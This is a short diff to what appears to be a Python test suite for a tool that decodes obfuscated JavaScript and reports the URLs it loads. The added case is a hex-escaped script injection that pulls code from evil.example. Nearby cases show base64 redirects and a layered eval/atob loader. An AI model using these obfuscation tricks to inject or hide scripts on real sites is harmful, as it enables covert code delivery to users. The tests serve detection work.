@@ -63,6 +63,10 @@ def packed(text: str) -> str:
          "https://evil.example/f", RequestType.SUBDOCUMENT),
         (f"window.location.href=atob('{b64('https://spam.example/?r=1')}');",
          "https://spam.example/?r=1", RequestType.DOCUMENT),
+        # the names and the URL each an escaped literal, called through brackets
+        (f"var s=document['{hexed('createElement')}']('{hexed('script')}');s['{hexed('src')}']="
+         f"'{hexed('https://evil.example/w.js')}';document['{hexed('head')}']"
+         f"['{hexed('appendChild')}'](s);", "https://evil.example/w.js", RequestType.SCRIPT),
         # two layers: base64 inside char codes
         (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
          "https://evil.example/x.js", RequestType.SCRIPT),
